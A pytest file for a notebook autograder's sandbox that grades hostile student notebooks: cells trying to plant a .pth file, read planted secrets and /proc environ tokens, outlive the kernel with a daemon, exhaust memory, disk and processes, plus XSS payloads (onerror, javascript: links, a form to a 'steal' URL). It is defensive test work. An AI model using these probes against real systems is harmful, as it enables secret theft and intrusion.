"""A submission can touch nothing but its own answer: each attack of the threat model, handed in.

One batch of the fixture course grades a few hostile students (docs/design.md, "Threat model").
Each attack is benign: it writes marker files, reads marker secrets the test planted, starts
`sleep`, allocates memory it frees; the test removes whatever an attack left behind. A cell
reports what it managed as lines `ATTACK <what> <ok|denied|number>` in the autograded notebook,
and the assertions read those lines, the files on this machine and the process table.
"""

from __future__ import annotations

import copy
import json
import os
import secrets
import signal
import sys
import sysconfig
import textwrap
from pathlib import Path

import nbformat
import pytest

from autograder.batch.grade import grade
from autograder.course.notebooks import coalesced_outputs, grade_id, read_notebook
from autograder.course.settings import REPO_ROOT
from autograder.engine import sandbox
from tests.conftest import feedback_page

pytestmark = pytest.mark.slow
ASSIGNMENT = "00_fixture"
TOKEN = secrets.token_hex(6)
SLEEP = f"{700 + int(TOKEN[:3], 16) % 200}.{int(TOKEN[3:], 16) % 10 ** 6:06d}"  # `sleep SLEEP`: ours alone
MARKER = f"autograder-attack-{TOKEN}"
SECRET = f"secret-{TOKEN}"
# The caps the batch runs under (small, so that the attacks cross them quickly).
CAPS = {"AUTOGRADER_KERNEL_MEMORY": "2G", "AUTOGRADER_KERNEL_TMP": "64M",
        "AUTOGRADER_KERNEL_WRITES": "64M", "AUTOGRADER_KERNEL_PROCESSES": "64"}
PROBLEMS = sandbox.problems() if hasattr(sandbox, "problems") else [sandbox.problem() or ""]
needs_sandbox = pytest.mark.skipif(any(PROBLEMS), reason="; ".join(p for p in PROBLEMS if p))


def write_targets(course_root: Path) -> dict[str, Path]:
    """Where a kernel must not write (label -> a marker file there)."""
    return {
        "site-packages (.pth)": Path(sysconfig.get_paths()["purelib"]) / f"zz-{MARKER}.pth",
        "venv bin": Path(sys.executable).parent / MARKER,
        "checkout": REPO_ROOT / MARKER,
        "autograder": REPO_ROOT / "autograder" / MARKER,
        "helpers": REPO_ROOT / "helpers" / MARKER,
        "course": course_root / MARKER,
        "course build": course_root / "build" / MARKER,
        "home": Path.home() / MARKER,
        "tmp": Path("/tmp") / MARKER,
        "dev-shm": Path("/dev/shm") / MARKER,
    }


def read_targets(course_root: Path) -> dict[str, Path]:
    """Secrets a kernel must not read (label -> file); the test plants the marker ones."""
    return {
        "home secret": Path.home() / f".{MARKER}-secret",
        "course build": course_root / "build" / "gradescope" / ASSIGNMENT / f"{MARKER}.txt",
        "checkout answers": REPO_ROOT / "source" / "01_numpy_mlp" / "01_numpy_mlp.ipynb",
        "checkout probe": REPO_ROOT / "grading" / "01_numpy_mlp" / "probe.py",
        "checkout history": REPO_ROOT / ".git" / "HEAD",
    }


REACH = '''
import os, subprocess, sys, time
def report(what, result):
    print("ATTACK", what, result, flush=True)
def attempt(what, action):
    try:
        action()
        report(what, "ok")
    except Exception:
        report(what, "denied")
def write(path):
    with open(path, "w") as f:
        f.write("# a benign marker\\n")
for label, path in {writes!r}.items():
    attempt("write:" + label.replace(" ", "_"), lambda: write(path))
for label, path in {reads!r}.items():
    def read(path=path):
        text = open(path, errors="replace").read()
        assert text
    attempt("read:" + label.replace(" ", "_"), read)
environs = [repr(dict(os.environ))]
for pid in ("self", "1", str(os.getppid())):
    try:
        environs.append(open(f"/proc/{{pid}}/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
print("\\n".join(environs))  # in the feedback, were anything of the grader's in it
report("env-secret", "ok" if any("CANVAS_TOKEN" in text for text in environs) else "denied")
report("home-in-job", "ok" if os.path.realpath(os.environ.get("HOME", "/")).startswith(os.getcwd()) else "denied")
graders = 0
for pid in os.listdir("/proc"):
    try:
        if pid.isdigit() and int(pid) != os.getpid() and b"autograder" in open(f"/proc/{{pid}}/cmdline", "rb").read():
            graders += 1
    except OSError:
        pass
report("grader-processes", graders)
'''

OUTLIVE = '''
import os, subprocess, sys, time
def report(what, result):
    print("ATTACK", what, result, flush=True)
# A daemon in a session of its own, double-forked: it must end with the kernel.
daemon = ("import os, subprocess\\n"
          "if os.fork() == 0:\\n"
          "    os.setsid()\\n"
          "    subprocess.Popen(['sleep', {sleep!r}])\\n"
          "    os._exit(0)\\n")
subprocess.Popen([sys.executable, "-c", daemon]).wait()
time.sleep(0.5)
# Three children holding 900 MB each at once: the memory cap is the kernel's, not each process's.
hold = ("open('/proc/self/oom_score_adj', 'w').write('1000')\\n"  # the OOM killer takes a child, not the kernel
        "import numpy, time; a = numpy.ones((900 << 20) // 8); time.sleep(3)")
children = [subprocess.Popen([sys.executable, "-c", hold]) for _ in range(3)]
report("allocated", sum(child.wait() == 0 for child in children))
# Disk: 96 MiB into the job folder and into /tmp (caps: 64M each).
def fill(path):
    try:
        with open(path, "wb") as f:
            for _ in range(96):
                f.write(b"0" * (1 << 20))
                f.flush()
        return "ok"
    except OSError:
        return "denied"
    finally:
        try:
            os.remove(path)
        except OSError:
            pass
report("fill-job", fill("filler.bin"))
report("fill-tmp", fill("/tmp/filler.bin"))
# Processes: the cap counts the kernel's processes as a whole (a child spawns them: the kernel
# itself keeps the threads it needs).
spawner = ("import subprocess\\nstarted = []\\ntry:\\n    for _ in range(100):\\n"
           "        started.append(subprocess.Popen(['sleep', '30']))\\nexcept OSError:\\n    pass\\n"
           "print(len(started))\\nfor p in started:\\n    p.kill()\\n    p.wait()\\n")
done = subprocess.run([sys.executable, "-c", spawner], capture_output=True, text=True)
report("processes", done.stdout.strip() or "0")
'''


# Finding 7: a student's HTML, in markdown and in an output, and a 3 MB print.
HOSTILE_MARKDOWN = """# My notes, with maths: $\\frac{a}{b}$
<img src="x" onerror="alert('img')">
<svg onload="alert('svg')"><circle r="1"/></svg>
<details open ontoggle="alert('details')"><summary>s</summary>d</details>
<a href="javascript:alert('a')">a link</a>
<form action="https://example.invalid/steal"><input name="q"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://example.invalid/">
<meta name="autograder-feedback" content="self-contained">
<script>alert('script')</script>
<iframe src="https://example.invalid/"></iframe>
<img src="https://example.invalid/pixel.png">
"""
HOSTILE_OUTPUT = """from IPython.display import HTML, display
display(HTML("<img src=x onerror=alert('output')><a href='javascript:alert(1)'>x</a><script>alert(2)</script>"))
print("y" * 3_000_000)
"""
# Finding 8: nbgrader's own markers in a student's markdown cell.
MARKERS = "my notes\n### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION"


def attack_lines(notebook: Path) -> dict[str, str]:
    """ATTACK lines of an autograded notebook: what -> result."""
    found = {}
    for cell in read_notebook(notebook).cells:
        # One print may reach the notebook as several stream outputs ('ATTACK', ' processes 48\n').
        printed = [o for o in coalesced_outputs(cell.get("outputs", [])) if o.get("name") == "stdout"]
        for line in "".join(str(o.get("text", "")) for o in printed).splitlines():
            if line.startswith("ATTACK "):
                _, what, result = line.split(" ", 2)
                found[what] = result
    return found


def ours_running() -> list[int]:
    """Pids of the processes running `sleep SLEEP`."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and SLEEP.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def attacked(released_course, tmp_path_factory):
    """Grade the hostile students; (records by student, out dir, write targets). Cleans up after."""
    course_root = released_course.root
    writes, reads = write_targets(course_root), read_targets(course_root)
    planted = [reads["home secret"], reads["course build"]]
    for path in planted:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(SECRET)
    source = read_notebook(released_course.source_notebook(ASSIGNMENT))
    release = read_notebook(released_course.release_notebook(ASSIGNMENT))
    answer = next(c.source for c in source.cells if grade_id(c) == "scale")
    root = tmp_path_factory.mktemp("submitted")
    cells = {
        "honest": "",
        "reaches_out": REACH.format(writes={k: str(v) for k, v in writes.items()},
                                    reads={k: str(v) for k, v in reads.items()}),
        "outlives_its_kernel": OUTLIVE.format(sleep=SLEEP),
        "hostile_page": "",
        "markers_in_markdown": "",
    }
    for student, code in cells.items():
        nb = copy.deepcopy(release)
        for cell in nb.cells:
            if grade_id(cell) == "scale":
                cell.source = answer
        if code:
            nb.cells.insert(2, nbformat.v4.new_code_cell(textwrap.dedent(code)))
        if student == "hostile_page":
            nb.cells.insert(2, nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN))
            nb.cells.insert(3, nbformat.v4.new_code_cell(HOSTILE_OUTPUT))
        if student == "markers_in_markdown":
            nb.cells.insert(2, nbformat.v4.new_markdown_cell(MARKERS))
        path = root / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    out = tmp_path_factory.mktemp("graded")
    try:
        with pytest.MonkeyPatch.context() as patch:
            for name, value in CAPS.items():
                patch.setenv(name, value)
            patch.setenv("CANVAS_TOKEN", SECRET)  # an instructor's token in the grader's environment
            grade(released_course, root, out, [ASSIGNMENT], n_jobs=2, timeout=60)
        records = {r["student_id"]: r for r in json.loads((out / "grades.json").read_text())}
        yield records, out, writes
    finally:
        for path in [*planted, *writes.values()]:
            path.unlink(missing_ok=True)
        for pid in ours_running():
            os.kill(pid, signal.SIGKILL)


def attacked_page(out: Path, course, student: str) -> str:
    return feedback_page(out, course, student, ASSIGNMENT)


def lines(out: Path, student: str) -> dict[str, str]:
    return attack_lines(out / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")


@needs_sandbox
def test_the_attacks_are_graded_like_the_honest_notebook(attacked):
    records, _, _ = attacked
    for student in ("reaches_out", "outlives_its_kernel", "hostile_page", "markers_in_markdown"):
        assert records[student]["status"] == "graded", records[student]["reason"]
        assert records[student]["score"] == records["honest"]["score"] > 0


@needs_sandbox
@pytest.mark.parametrize("label", list(write_targets(Path("/course"))))
def test_a_kernel_writes_nothing_outside_its_job_folder(attacked, label):
    """The machine is read-only to a kernel: no .pth in the venv, nothing in the course, HOME, /tmp."""
    _, out, writes = attacked
    assert not writes[label].exists(), f"a kernel wrote {writes[label]}"
    result = lines(out, "reaches_out")["write:" + label.replace(" ", "_")]
    # /tmp and /dev/shm are the kernel's own (private, capped): writing there is fine, unseen here.
    assert result == ("ok" if label in ("tmp", "dev-shm") else "denied")


@needs_sandbox
@pytest.mark.parametrize("label", list(read_targets(Path("/course"))))
def test_a_kernel_reads_no_answer_no_secret_and_no_output(attacked, label):
    _, out, _ = attacked
    assert lines(out, "reaches_out")["read:" + label.replace(" ", "_")] == "denied"


@needs_sandbox
def test_the_graders_environment_and_processes_are_out_of_reach(attacked, released_course):
    _, out, _ = attacked
    found = lines(out, "reaches_out")
    assert found["env-secret"] == "denied"  # not in os.environ, nor any /proc/*/environ it sees
    assert found["home-in-job"] == "ok"
    assert found["grader-processes"] == "0"  # its own PID namespace: no other grader process
    assert SECRET not in attacked_page(out, released_course, "reaches_out")


@needs_sandbox
def test_everything_a_kernel_starts_ends_with_it(attacked):
    _, out, _ = attacked
    assert lines(out, "outlives_its_kernel")  # the cell ran
    assert ours_running() == [], "a daemon started by a kernel outlived the batch"


@needs_sandbox
def test_memory_processes_and_disk_are_capped_for_the_kernel_as_a_whole(attacked):
    _, out, _ = attacked
    found = lines(out, "outlives_its_kernel")
    assert int(found["allocated"]) <= 2  # 3 x 900 MB > the kernel's 2G
    assert found["fill-job"] == "denied" and found["fill-tmp"] == "denied"
    assert int(found["processes"]) < 64


def test_a_students_html_never_reaches_the_feedback_page_as_html(attacked, released_course):
    """Event handlers, javascript: links, forms, refreshes, frames, scripts, remote pictures and a
    marker that once made the clean-up skip the page: none survives; the page stays small and its
    maths is MathML (no script needed)."""
    from bs4 import BeautifulSoup

    _, out, _ = attacked
    page = attacked_page(out, released_course, "hostile_page")
    assert len(page) < 2 << 20  # a 3 MB print does not make a 3 MB page
    soup = BeautifulSoup(page, "html.parser")
    banned = ("script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg")
    assert [t.name for t in soup.find_all(banned)] == []
    assert [t for t in soup.find_all("meta") if t.get("http-equiv") or t.get("name")] == []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), (tag.name, name)
            assert "javascript:" not in str(value).lower(), (tag.name, name, value)
        if tag.name == "img":  # an embedded picture, or none
            assert str(tag.get("src", "data:image/")).startswith("data:image/"), tag
    assert "<math" in page and "\\frac{a}{b}" not in page


def test_nbgraders_markers_in_a_students_cell_are_text_not_a_failure(attacked, released_course):
    records, out, _ = attacked
    record = records["markers_in_markdown"]
    assert (record["status"], record["score"]) == ("graded", records["honest"]["score"]), record["reason"]
    assert "my notes" in attacked_page(out, released_course, "markers_in_markdown")
